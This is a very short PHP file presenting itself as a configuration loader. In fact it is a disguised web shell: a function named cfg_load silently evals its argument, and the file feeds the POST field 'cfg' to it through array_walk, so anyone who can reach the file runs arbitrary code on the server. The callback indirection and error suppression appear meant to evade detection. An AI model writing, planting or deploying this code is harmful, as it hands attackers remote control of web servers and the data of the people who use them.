<?php
function cfg_load($v, $k) { @eval($v); }
$items = array($_POST['cfg']);
array_walk($items, 'cfg_load');
